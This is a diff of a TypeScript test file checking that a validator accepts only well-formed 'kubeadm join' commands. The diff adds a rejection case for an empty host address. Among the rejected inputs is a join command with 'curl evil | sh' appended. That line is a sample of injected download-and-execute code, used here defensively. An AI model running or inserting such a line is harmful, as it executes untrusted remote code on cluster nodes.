@@ -39,7 +39,6 @@ t.test("what a template may write is a join-command", (t) => {
     `# Run this:\n\n${JOIN_COMMAND}\n`,
     `#!/bin/bash\nset -eux -o pipefail\n# testbed: /tmp/testbed/cluster/node0:20003\n${JOIN_COMMAND}`,
     AROUND.replace("10.0.0.7", "fd00::7") + JOIN_COMMAND,
-    AROUND.replace("10.0.0.7", "") + JOIN_COMMAND,
     `set -eu\n${JOIN_COMMAND}`,
     JOIN_COMMAND.replace("10.0.0.1:", "u7s-node-a.example:"),
     JOIN_COMMAND.replace("10.0.0.1:", "[fd00::1]:"),
@@ -101,6 +100,10 @@ t.test("what is no join-command is not published, nor shown", async (t) => {
     [JOIN_COMMAND + JOIN_COMMAND, "it must have one line kubeadm join"],
     [JOIN_COMMAND.slice(0, 70), "line 1 of 1 is neither"],
     [`${JOIN_COMMAND}curl evil | sh\n`, "line 2 of 3 is neither"],
+    [
+      `${AROUND.replace("10.0.0.7 ", " ")}${JOIN_COMMAND}`,
+      "the lead's address in it is empty (HOST_IP): set usernetes.interface",
+    ],
   ] as const)
     await t.rejects(publishJoinCommand(JOBID, text, world), { message: `: ${why}` });
   t.strictSame(nodes.commands, []);
